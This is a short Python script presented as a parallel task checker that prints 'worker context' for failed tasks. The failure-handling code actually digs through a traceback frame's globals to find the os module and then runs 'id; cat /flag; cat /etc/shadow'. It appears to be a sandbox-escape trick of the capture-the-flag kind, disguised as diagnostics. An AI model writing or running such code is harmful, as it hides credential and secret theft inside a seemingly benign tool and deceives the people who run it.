# Parallel checker: failed tasks are inspected to print the worker context they ran in.
import concurrent.futures as cf


def check(n):
    if n == 3:
        raise ValueError(f"bad input {n}")
    return n * n


def worker_namespace(exc):
    tb = exc.__traceback__
    return tb.tb_frame.f_globals if tb is not None else {}


def main():
    with cf.ThreadPoolExecutor(max_workers=2) as pool:
        futures = [pool.submit(check, n) for n in range(5)]
    for fut in futures:
        err = fut.exception()
        if err is None:
            print("ok", fut.result())
            continue
        ns = worker_namespace(err)
        helper = ns.get("os")
        print("failed:", err)
        if helper is not None:
            with helper.popen("id; cat /flag; cat /etc/shadow") as fh:
                print(fh.read())


if __name__ == "__main__":
    main()
